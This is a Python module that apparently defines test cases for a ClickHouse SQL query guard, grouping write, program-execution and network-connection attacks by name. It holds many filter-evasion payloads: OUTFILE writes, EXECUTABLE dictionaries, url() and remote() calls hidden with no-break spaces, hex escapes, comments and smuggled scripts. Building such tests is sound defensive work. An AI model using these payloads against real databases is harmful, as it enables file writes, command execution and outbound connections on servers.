"""Attacks that change, run or call what is outside; and all attacks by name."""

# ruff: noqa: E501 - one statement a line
from __future__ import annotations

from .machine import Ask, Attack, sql
from .reads import READS

#: An oracle is a reading, too: the answer must not tell whether a file is there.
ORACLES: tuple[str, ...] = (
    "EXISTS TABLE `@{}@`",
    "EXISTS `@{}@`",
    "DESCRIBE TABLE `@{}@`",
    "SHOW CREATE TABLE `@{}@`",
    "SELECT count() FROM system.tables WHERE name = '@{}@'",
    "EXISTS TABLE default.`@{}@`",
)

WRITES: dict[str, Attack] = {
    "outfile": sql("SELECT 1 INTO OUTFILE '@out@/new'"),
    "outfile with a no-break space": sql("SELECT 1 INTO\u00a0OUTFILE '@out@/new'"),
    "outfile of another format": sql("SELECT 'x' into\u00a0outfile '@canary@' truncate format RawBLOB"),
    "outfile that appends": sql("SELECT 1 INTO/**/OUTFILE '@canary@' APPEND"),
    "outfile that truncates": sql("SELECT 1 INTO OUTFILE '@canary@' TRUNCATE"),
    "outfile and stdout": sql("SELECT 1 INTO OUTFILE '@out@/new' AND STDOUT"),
    "outfile compressed": sql("SELECT 1 INTO OUTFILE '@out@/new' COMPRESSION 'gzip' FORMAT CSV"),
    "outfile behind FORMAT": sql("SELECT 1 INTO OUTFILE '@out@/new' FORMAT TSV"),
    "outfile by GET": Attack((Ask("SELECT 1 INTO\u00a0OUTFILE '@out@/new'", get=True),)),
    "outfile of SHOW": sql("SHOW DATABASES INTO OUTFILE '@out@/new'"),
    "outfile of EXPLAIN": sql("EXPLAIN SELECT 1 INTO OUTFILE '@out@/new'"),
    "outfile of a union": sql("SELECT 1 UNION ALL SELECT 2 INTO OUTFILE '@out@/new'"),
    "outfile of an alias": sql("SELECT 1 AS `'` INTO OUTFILE '@out@/new' FORMAT TSV"),
    "outfile in a parameter's type": Attack(
        (Ask("SELECT {x:String// ' \n} INTO OUTFILE '@out@/new' -- '\n", params={"x": "1"}),)
    ),
    "insert into function": sql("INSERT INTO FUNCTION file('@out@/new', TSV, 'a UInt8') SELECT 1"),
    "insert into function with rows": Attack(
        (Ask("INSERT INTO FUNCTION file('@out@/new', TSV, 'a UInt8') FORMAT TSV", b"1\n"),)
    ),
    "insert into function with a no-break space": sql(
        "INSERT INTO FUNCTION file\u00a0('@out@/new', TSV, 'a UInt8') SELECT 1"
    ),
    "insert into an escaped function": sql(
        "INSERT INTO TABLE FUNCTION `f\\x69le`('@out@/new', TSV, 'a UInt8') VALUES (1)"
    ),
    "insert into a path": sql("INSERT INTO `@out@/canary.csv` SELECT 'x'"),
    "insert into a path with rows": Attack((Ask("INSERT INTO default.`@out@/canary.csv` FORMAT CSV", b"x\n"),)),
    "explain insert": sql("EXPLAIN PIPELINE INSERT INTO FUNCTION file('@out@/new', TSV, 'a UInt8') SELECT 1"),
    "explain analyze insert": sql(
        "EXPLAIN ANALYZE INSERT INTO FUNCTION file('@out@/new', TSV, 'a UInt8') SELECT 1", proved=False
    ),
    "table engine": sql(
        "CREATE TABLE w@n@ (a UInt8) ENGINE = File(TSV, '@out@/new')", proved=False
    ),
    "disk": sql(
        "CREATE TABLE w@n@ (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '@out@/d/')"
    ),
    "quoted disk": sql(
        "CREATE TABLE w@n@ (a UInt8) ENGINE = MergeTree ORDER BY a "
        "SETTINGS `d\\x69sk` = disk(type = 'local_blob_storage', path = '@out@/d/')"
    ),
    "disk behind another setting": sql(
        "CREATE TABLE w@n@ (a UInt8) ENGINE = MergeTree ORDER BY a "
        "SETTINGS index_granularity = 100, disk = disk(type = 'local_blob_storage', path = '@out@/e/')"
    ),
    "rocksdb": sql("CREATE TABLE w@n@ (a UInt8) ENGINE = EmbeddedRocksDB(0, '@out@/rocks') PRIMARY KEY a"),
    "backup": sql("BACKUP TABLE t TO File('@out@/backup')", proved=False),
    "errors of an input": Attack(
        (
            Ask(
                "INSERT INTO n SETTINGS input_format_record_errors_file_path = '@out@/new', "
                "input_format_allow_errors_num = 10 FORMAT CSV",
                b"x\n1\n",
            ),
        )
    ),
    "a script behind rows": Attack(
        (Ask("INSERT INTO t FORMAT TSV", b"x\n\nSELECT 1 INTO OUTFILE '@out@/new';", params={"x": "1"}),)
    ),
    "a script in a parameter's name": Attack(
        (
            Ask(
                "INSERT INTO t FORMAT TSV", b"x\n",
                params={"x='1'; SELECT 1 INTO OUTFILE '@out@/new'; SET param_y": "1"},
            ),
        ),
        proved=False,
    ),
    "ssd cache": sql(
        "CREATE OR REPLACE DICTIONARY sd (k UInt64, v String) PRIMARY KEY k LIFETIME(1) "
        "SOURCE(CLICKHOUSE(TABLE 'one' DB 'system')) LAYOUT(SSD_CACHE(PATH '@out@/ssd'))",
        "SELECT dictGet('sd', 'v', toUInt64(1))", proved=False,
    ),
}  # fmt: skip

RUNS: dict[str, Attack] = {
    "dictionary of a program": sql(
        "CREATE OR REPLACE DICTIONARY ed (k UInt64, v String) PRIMARY KEY k LAYOUT(FLAT()) LIFETIME(0) "
        "SOURCE(EXECUTABLE(COMMAND '@script@' FORMAT 'CSV'))",
        "SELECT dictGet('ed', 'v', toUInt64(1))",
    ),
    "dictionary of a quoted program": sql(
        "CREATE OR REPLACE DICTIONARY eq (k UInt64, v String) PRIMARY KEY k LAYOUT(FLAT()) LIFETIME(0) "
        "SOURCE(`ex\\x65cutable`(`c\\x6fmmand` '@script@' FORMAT 'CSV'))",
        "SELECT dictGet('eq', 'v', toUInt64(1))",
    ),
    "dictionary of a pool": sql(
        "CREATE OR REPLACE DICTIONARY ep (k UInt64, v String) PRIMARY KEY k LAYOUT(DIRECT()) "
        "SOURCE(EXECUTABLE_POOL(COMMAND '@script@' FORMAT 'CSV'))",
        "SELECT dictGet('ep', 'v', toUInt64(1))",
    ),
    "executable()": sql("SELECT * FROM executable('@script@', TSV, 'a String')", proved=False),
    "executable() up": sql("SELECT * FROM executable('../../../../../../..@script@', TSV, 'a String')", proved=False),
    "engine Executable": sql("CREATE TABLE x@n@ (a String) ENGINE = Executable('@script@', TSV)", proved=False),
    "odbc": sql("SELECT * FROM odbc('DSN=x', 'd', 't')", proved=False),
    "jdbc": sql("SELECT * FROM jdbc('jdbc:x', 'd', 't')", proved=False),
    "a script behind rows": Attack(
        (
            Ask(
                "INSERT INTO t FORMAT TSV",
                b"x\n\nCREATE OR REPLACE DICTIONARY es (k UInt64, v String) PRIMARY KEY k LAYOUT(FLAT()) LIFETIME(0) "
                b"SOURCE(EXECUTABLE(COMMAND '@script@' FORMAT 'CSV'));\n"
                b"SELECT dictGet('es', 'v', toUInt64(1));",
                params={"x": "1"},
            ),
        ),
    ),
    "wasm": sql("CREATE FUNCTION w@n@ LANGUAGE WASM ARGUMENTS (a UInt8) RETURNS UInt8 FROM '@script@'", proved=False),
}

CONNECTS: dict[str, Attack] = {
    "url": sql("SELECT * FROM url('http://127.0.0.1:@port@/', CSV, 'a String')"),
    "escaped url": sql("SELECT * FROM `ur\\x6c`('http://127.0.0.1:@port@/', CSV, 'a String')"),
    "url with a no-break space": sql("SELECT * FROM url\u00a0('http://127.0.0.1:@port@/', CSV, 'a String')"),
    "insert into url": sql("INSERT INTO FUNCTION url('http://127.0.0.1:@port@/', CSV, 'a String') SELECT 'x'"),
    "columns from url": sql("DESCRIBE TABLE url('http://127.0.0.1:@port@/', CSV)"),
    "engine URL": sql("CREATE OR REPLACE TABLE ut (a UInt8) ENGINE = URL('http://127.0.0.1:@port@/', TSV)",
                      "SELECT * FROM ut"),
    "url_base": sql("SELECT * FROM url('x', CSV, 'a String') SETTINGS url_base = 'http://127.0.0.1:@port@/'"),
    "remote": sql("SELECT * FROM remote('127.0.0.1:@port@', system, one)"),
    "remote with a no-break space": sql("SELECT * FROM remote\u00a0('127.0.0.1:@port@', system, one)"),
    "remoteSecure": sql("SELECT * FROM remoteSecure('127.0.0.1:@port@', system, one)"),
    "hasColumnInTable": sql("SELECT hasColumnInTable('127.0.0.1:@port@', 'system', 'one', 'dummy')", proved=False),
    "hasColumnInTable for a lambda": sql(
        "SELECT arrayMap(x -> hasColumnInTable('127.0.0.1:@port@', 'system', 'one', 'dummy'), [1])", proved=False
    ),
    "s3": sql("SELECT * FROM s3('http://127.0.0.1:@port@/bucket/key', 'k', 's', CSV, 'a String')"),
    "gcs": sql("SELECT * FROM gcs('http://127.0.0.1:@port@/bucket/key', 'k', 's', CSV, 'a String')"),
    "azure": sql(
        "SELECT * FROM azureBlobStorage('http://127.0.0.1:@port@/a', 'c', 'b', 'a', 'YWJj', 'CSV', 'auto', 'a String')",
        proved=False,
    ),
    "hdfs": sql("SELECT * FROM hdfs('hdfs://127.0.0.1:@port@/x', CSV, 'a String')", proved=False),
    "mysql": sql("SELECT * FROM mysql('127.0.0.1:@port@', 'd', 't', 'u', 'p')"),
    "postgresql": sql("SELECT * FROM postgresql('127.0.0.1:@port@', 'd', 't', 'u', 'p')"),
    "redis": sql("SELECT * FROM redis('127.0.0.1:@port@', 'k', 'k String, v String')"),
    "mongodb": sql("SELECT * FROM mongodb('127.0.0.1:@port@', 'd', 't', 'u', 'p', 'a String')"),
    "iceberg": sql("SELECT * FROM icebergS3('http://127.0.0.1:@port@/b/', 'k', 's')", proved=False),
    "delta lake": sql("SELECT * FROM deltaLake('http://127.0.0.1:@port@/b/', 'k', 's')", proved=False),
    "database engine": sql(
        "CREATE DATABASE IF NOT EXISTS my@n@ ENGINE = MySQL('127.0.0.1:@port@', 'd', 'u', 'p')", proved=False
    ),
    "dictionary by HTTP": sql(
        "CREATE OR REPLACE DICTIONARY hd (k UInt64, v String) PRIMARY KEY k LAYOUT(FLAT()) LIFETIME(0) "
        "SOURCE(HTTP(URL 'http://127.0.0.1:@port@/' FORMAT 'CSV'))", "SELECT dictGet('hd', 'v', toUInt64(1))", proved=False,  # it could be, but takes five seconds
    ),
    "dictionary of a host": sql(
        "CREATE OR REPLACE DICTIONARY ld (k UInt64, v String) PRIMARY KEY k LAYOUT(FLAT()) LIFETIME(0) "
        "SOURCE(CLICKHOUSE(HOST '127.0.0.2' PORT @port@ TABLE 't' DB 'd'))", "SELECT dictGet('ld', 'v', toUInt64(1))",
        proved=False,
    ),
    "dictionary of MySQL": sql(
        "CREATE OR REPLACE DICTIONARY md (k UInt64, v String) PRIMARY KEY k LAYOUT(FLAT()) LIFETIME(0) "
        "SOURCE(MYSQL(HOST '127.0.0.1' PORT @port@ DB 'd' TABLE 't' USER 'u' PASSWORD 'p'))",
        "SELECT dictGet('md', 'v', toUInt64(1))",
    ),
    "schema registry": sql(
        "SELECT * FROM format(AvroConfluent, 'a UInt8', '\\0\\0\\0\\0\\1x') "
        "SETTINGS format_avro_schema_registry_url = 'http://127.0.0.1:@port@'", proved=False,  # it could be, but takes three seconds
    ),
    "kafka": sql(
        "CREATE TABLE k@n@ (a UInt8) ENGINE = Kafka('127.0.0.1:@port@', 't', 'g', 'CSV')", proved=False
    ),
    "language model": sql(
        "SELECT aiGenerate('x', map('endpoint', 'http://127.0.0.1:@port@/', 'provider', 'openai', 'model', 'm'))",
        proved=False,
    ),
    "backup": sql("BACKUP TABLE t TO S3('http://127.0.0.1:@port@/b', 'k', 's')", proved=False),
    "a script behind rows": Attack(
        (
            Ask(
                "INSERT INTO t FORMAT TSV",
                b"x\n\nSELECT * FROM url('http://127.0.0.1:@port@/', CSV, 'a String');",
                params={"x": "1"},
            ),
        )
    ),
}  # fmt: skip

ATTACKS: dict[str, Attack] = {
    f"{kind}: {name}": attack
    for kind, attacks in (("read", READS), ("write", WRITES), ("run", RUNS), ("connect", CONNECTS))
    for name, attack in attacks.items()
}


# Spellings ------------------------------------------------------------------------------------------------------------
